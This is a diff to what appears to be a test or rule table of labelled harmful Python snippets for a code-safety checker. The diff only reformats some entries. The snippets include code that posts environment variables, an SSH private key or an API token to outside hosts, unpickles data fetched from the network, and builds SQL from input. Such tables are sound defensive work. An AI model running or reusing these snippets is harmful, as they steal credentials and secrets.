@@ -28,14 +28,29 @@ _HARM = [
     ("import pickle, requests\npickle.loads(requests.get(u).content)", "unpickles-from-network", "high"),
     ("import yaml\nyaml.load(text)", "unpickles", "low"),
     ("def find(name):\n    q = f\"SELECT * FROM t WHERE n = '{name}'\"\n    return db.execute(q)", "sql-from-text", "medium"),
-    ("import os\ndef read(name):\n    path = os.path.join('/srv/docs', name)\n    return open(path).read()", "path-from-input", "low"),
+    (
+        "import os\n"
+        "def read(name):\n    path = os.path.join('/srv/docs', name)\n    return open(path).read()",
+        "path-from-input",
+        "low",
+    ),
     ("getattr(os, 'sys' + 'tem')('ls')", "built-name", "medium"),
     ("while True:\n    count += 1", "endless-loop", "medium"),
     ("data = [0] * 10**9", "huge-allocation", "medium"),
     ("import os, requests\nrequests.post('https://a.fresh.dev', json=dict(os.environ))", "secret-to-network", "high"),
     ("import os, socket\ns = socket.socket()\ns.sendall(str(os.environ).encode())", "secret-to-network", "high"),
-    ("import httpx, pathlib\nk = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\nhttpx.post(u, data=k)", "secret-to-network", "high"),
-    ("import os, requests\nk = os.environ['API_TOKEN']\nrequests.get('https://a.fresh.dev/?k=' + k)", "undeclared-key-sent", "medium"),
+    (
+        "import httpx, pathlib\n"
+        "k = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\nhttpx.post(u, data=k)",
+        "secret-to-network",
+        "high",
+    ),
+    (
+        "import os, requests\n"
+        "k = os.environ['API_TOKEN']\nrequests.get('https://a.fresh.dev/?k=' + k)",
+        "undeclared-key-sent",
+        "medium",
+    ),
 ]  # fmt: skip
 
 
